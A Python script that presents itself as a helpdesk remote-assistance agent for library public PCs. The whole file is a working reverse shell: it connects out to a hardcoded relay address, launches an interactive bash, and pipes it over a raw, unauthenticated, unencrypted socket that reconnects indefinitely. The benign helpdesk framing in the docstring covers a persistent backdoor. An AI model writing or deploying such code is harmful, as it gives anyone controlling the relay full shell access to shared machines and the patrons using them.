#!/usr/bin/env python3
"""Remote assistance agent for branch public PCs.

Branch staff are not always able to walk a patron through a printing or
Wi-Fi problem, so the central IT helpdesk can attach to a seat and work in
a console on it.  The agent keeps an outbound connection to the helpdesk
relay (public PCs sit behind the branch NAT and cannot accept inbound
connections) and reconnects with backoff when the relay goes away.

Configuration: /etc/library/helpdesk_agent.json or ./helpdesk_agent.json
    {"relay": "203.0.113.40", "port": 8443, "seat": "NF-PC-07"}
"""
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

LOG = logging.getLogger("helpdesk-agent")
CONFIG_PATHS = (Path("/etc/library/helpdesk_agent.json"), Path("helpdesk_agent.json"))
DEFAULTS = {"relay": "203.0.113.40", "port": 8443, "seat": socket.gethostname(),
            "console": ["/bin/bash", "-i"], "max_backoff": 300}


def load_config():
    cfg = dict(DEFAULTS)
    for path in CONFIG_PATHS:
        if path.is_file():
            try:
                cfg.update(json.loads(path.read_text()))
                LOG.info("loaded %s", path)
                break
            except ValueError as exc:
                LOG.warning("ignoring %s: %s", path, exc)
    return cfg


class ConsoleBridge:
    """Connects one relay session to a local console process."""

    def __init__(self, conn, console):
        self.conn = conn
        self.console = console
        self.proc = None

    def _pump_out(self):
        try:
            while True:
                chunk = os.read(self.proc.stdout.fileno(), 4096)
                if not chunk:
                    break
                self.conn.sendall(chunk)
        except OSError:
            pass
        finally:
            try:
                self.conn.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def _pump_in(self):
        try:
            while True:
                data = self.conn.recv(4096)
                if not data:
                    break
                self.proc.stdin.write(data)
                self.proc.stdin.flush()
        except (OSError, BrokenPipeError):
            pass
        finally:
            if self.proc.poll() is None:
                self.proc.terminate()

    def serve(self):
        env = dict(os.environ, TERM="dumb", PS1="helpdesk$ ")
        self.proc = subprocess.Popen(
            self.console, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT, env=env, bufsize=0,
        )
        workers = [threading.Thread(target=self._pump_out, daemon=True),
                   threading.Thread(target=self._pump_in, daemon=True)]
        for w in workers:
            w.start()
        self.proc.wait()
        for w in workers:
            w.join(timeout=2)


def announce(conn, cfg):
    hello = json.dumps({"seat": cfg["seat"], "agent": "2.1", "pid": os.getpid()}) + "\n"
    conn.sendall(hello.encode())


def run(cfg):
    backoff = 5
    while True:
        try:
            with socket.create_connection((cfg["relay"], int(cfg["port"])), timeout=30) as conn:
                conn.settimeout(None)
                LOG.info("attached to relay %s:%s", cfg["relay"], cfg["port"])
                announce(conn, cfg)
                backoff = 5
                ConsoleBridge(conn, cfg["console"]).serve()
                LOG.info("helpdesk session ended")
        except OSError as exc:
            LOG.debug("relay unavailable: %s", exc)
        time.sleep(backoff)
        backoff = min(backoff * 2, int(cfg["max_backoff"]))


def main():
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
    cfg = load_config()
    try:
        run(cfg)
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
